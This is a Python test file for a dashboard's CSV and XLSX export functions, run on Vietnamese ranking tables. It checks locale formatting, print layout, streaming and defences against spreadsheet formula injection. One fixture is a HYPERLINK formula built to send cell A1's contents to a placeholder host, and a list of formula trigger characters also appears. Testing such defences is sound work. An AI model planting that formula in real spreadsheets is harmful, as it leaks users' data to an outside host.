"""The pure download writers, read back by other libraries (csv, python-calamine, zipfile)."""

import codecs
import csv
import datetime
import io
import zipfile
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from dashboard.exports import (
    BAND,
    COUNT,
    DATE,
    DELTA,
    INTEGER,
    PLAIN,
    POINTS,
    BandValue,
    Column,
    Table,
    csv_bytes,
    csv_cell,
    neutralise,
    xlsx_bytes,
)

EVIL = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'


def table(rows=None) -> Table:
    return Table(
        sheet_name="Bảng xếp hạng",
        title="Bảng xếp hạng Bộ chỉ số 766: Tỉnh Bình Dương",
        notes=["Số liệu đến ngày 20/05/2025", "Dữ liệu giả lập"],
        columns=[
            Column("Đơn vị", width=30),
            Column("Hạng", INTEGER),
            Column("Tổng điểm", POINTS),
            Column("Xếp loại", BAND),
            Column("Chênh lệch", DELTA),
            Column("Tử số", COUNT),
            Column("Ngày", DATE),
        ],
        rows=rows
        if rows is not None
        else [
            ["Tân Đông Hiệp", 1, Decimal("93.30"), BandValue("xuat_sac", "Xuất sắc"), Decimal("-0.5"), Decimal("5105.0000"), datetime.date(2025, 5, 20)],
            [EVIL, 2, Decimal("85"), BandValue("tot", "Tốt"), Decimal("0.05"), Decimal("0.5"), datetime.date(2025, 5, 20)],
            ["-Thị xã lạ", None, None, None, None, None, None],
        ],
        footnotes=["Hạng bằng nhau khi tổng điểm bằng nhau."],
        strong_rows={0},
    )  # fmt: skip


# --- CSV --------------------------------------------------------------------------------------


def read_csv(data: bytes, delimiter: str = ";") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def test_csv_starts_with_a_bom_and_reads_back_with_vietnamese_intact():
    data = csv_bytes(table())
    assert data.startswith(codecs.BOM_UTF8)
    rows = read_csv(data)
    assert rows[0] == ["Đơn vị", "Hạng", "Tổng điểm", "Xếp loại", "Chênh lệch", "Tử số", "Ngày"]
    # As a Vietnamese Excel reads a double-clicked CSV: ";", decimal comma, dd/mm/yyyy.
    assert rows[1] == ["Tân Đông Hiệp", "1", "93,30", "Xuất sắc", "-0,50", "5105", "20/05/2025"]
    assert rows[3] == ["'-Thị xã lạ", "", "", "", "", "", ""]
    assert b"\r\n" in data  # what Excel writes and expects
    assert not data[3:].startswith(b"sep=")  # a sep= line makes Excel ignore the BOM


def test_the_plain_csv_dialect_has_commas_decimal_points_and_iso_dates():
    rows = read_csv(csv_bytes(table(), PLAIN), delimiter=",")
    assert rows[1] == ["Tân Đông Hiệp", "1", "93.30", "Xuất sắc", "-0.50", "5105", "2025-05-20"]


def test_csv_neutralises_formulas_in_text_but_not_negative_numbers():
    rows = read_csv(csv_bytes(table()))
    assert rows[2][0] == "'" + EVIL
    assert rows[1][4] == "-0,50"  # a number column keeps its sign, no quote


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_every_formula_trigger_is_neutralised(text):
    assert neutralise(text) == "'" + text
    assert csv_cell(text, "text") == "'" + text


@pytest.mark.parametrize("text", ["Dĩ An", "", "1=1", " =x", "'quoted"])
def test_ordinary_text_is_left_alone(text):
    assert neutralise(text) == text


@given(st.text())
def test_no_csv_text_cell_can_start_a_formula(text):
    assert not csv_cell(text, "text").startswith(("=", "+", "-", "@", "\t", "\r"))


@given(st.decimals(min_value=-100, max_value=100, places=2, allow_nan=False))
def test_points_keep_two_decimals_and_their_value(value):
    assert Decimal(csv_cell(value, POINTS, PLAIN)) == value
    assert csv_cell(value, POINTS, PLAIN).split(".")[1].__len__() == 2
    excel = csv_cell(value, POINTS)
    assert Decimal(excel.replace(",", ".")) == value and "." not in excel


# --- XLSX -------------------------------------------------------------------------------------


def read_xlsx(data: bytes, sheet: int = 0) -> list[list]:
    workbook = CalamineWorkbook.from_filelike(io.BytesIO(data))
    return workbook.get_sheet_by_index(sheet).to_python(skip_empty_area=False)


def sheet_xml(data: bytes, name: str = "xl/worksheets/sheet1.xml") -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name).decode()


def test_xlsx_reads_back_with_calamine_text_and_numbers_intact():
    data = xlsx_bytes([table()])
    rows = read_xlsx(data)
    assert rows[0][0] == "Bảng xếp hạng Bộ chỉ số 766: Tỉnh Bình Dương"
    assert rows[1][0] == "Số liệu đến ngày 20/05/2025"
    assert rows[2][0] == "Dữ liệu giả lập"
    header = rows[4]
    assert header == ["Đơn vị", "Hạng", "Tổng điểm", "Xếp loại", "Chênh lệch", "Tử số", "Ngày"]
    first = rows[5]
    assert first[0] == "Tân Đông Hiệp"
    assert first[1] == 1
    assert first[2] == pytest.approx(93.3)
    assert first[3] == "Xuất sắc"
    assert first[4] == pytest.approx(-0.5)  # a number, not text
    assert first[5] == 5105
    assert first[6] in (datetime.date(2025, 5, 20), datetime.datetime(2025, 5, 20))
    assert rows[6][0] == EVIL  # the text itself, unchanged…
    assert rows[7][0] == "-Thị xã lạ"


def test_xlsx_text_is_never_a_formula():
    data = xlsx_bytes([table()])
    xml = sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml  # … and stored as text, not a formula
    styles = sheet_xml(data, "xl/styles.xml")
    assert 'quotePrefix="1"' in styles  # Excel's own "this is text" marker


def test_xlsx_is_formatted_for_a4_landscape_with_a_frozen_header():
    data = xlsx_bytes([table()])
    xml = sheet_xml(data)
    assert 'orientation="landscape"' in xml
    assert 'paperSize="9"' in xml  # A4
    assert 'fitToPage="1"' in xml and 'fitToHeight="0"' in xml  # 1 page wide (the default)
    assert 'state="frozen"' in xml and 'ySplit="5"' in xml
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        workbook = archive.read("xl/workbook.xml").decode()
    assert "_xlnm.Print_Titles" in workbook  # the header repeats on each printed page


def test_xlsx_band_cells_are_coloured_like_the_pages():
    styles = sheet_xml(xlsx_bytes([table()]), "xl/styles.xml")
    for colour in ("1B7F3B", "2F6FB3"):  # --band-xuat-sac, --band-tot in static/css/app.css
        assert colour in styles


def test_several_sheets_with_unsafe_names():
    second = table()
    second.sheet_name = "Diễn biến: [2025]/tuần?"
    data = xlsx_bytes([table(), second])
    workbook = CalamineWorkbook.from_filelike(io.BytesIO(data))
    assert workbook.sheet_names == ["Bảng xếp hạng", "Diễn biến   2025  tuần"]


def test_an_empty_table_still_has_its_header():
    rows = read_xlsx(xlsx_bytes([table(rows=[])]))
    assert rows[4][0] == "Đơn vị"
    assert read_csv(csv_bytes(table(rows=[]))) == [
        ["Đơn vị", "Hạng", "Tổng điểm", "Xếp loại", "Chênh lệch", "Tử số", "Ngày"]
    ]


def _long_table(n: int) -> Table:
    """A table whose rows are a generator, read once, as a national download's are."""
    return Table(
        sheet_name="Bảng",
        title="Bảng xếp hạng",
        columns=[Column("Đơn vị"), Column("Tổng", POINTS), Column("Hạng", INTEGER)],
        rows=((f"Xã {i}", Decimal(i) / 7, i) for i in range(n)),
    )


def test_a_long_csv_streams_in_chunks_that_join_to_the_whole_file():
    from dashboard.exports import CSV_CHUNK_ROWS, csv_chunks

    chunks = list(csv_chunks(_long_table(1200)))
    assert len(chunks) == 1 + -(-1200 // CSV_CHUNK_ROWS)  # the header, then a chunk per 500
    assert b"".join(chunks) == csv_bytes(_long_table(1200))
    rows = list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8-sig")), delimiter=";"))
    assert len(rows) == 1201 and rows[1200] == ["Xã 1199", "171,29", "1199"]


def test_a_long_xlsx_is_written_in_constant_memory_from_a_generator():
    data = xlsx_bytes([_long_table(1200)])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert 't="inlineStr"' in sheet  # constant_memory writes strings inline, row by row
    rows = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
    name, total, rank = rows[-1]
    assert name == "Xã 1199" and int(rank) == 1199  # the last row came through
    assert abs(total - 1199 / 7) < 1e-9  # a number, not text
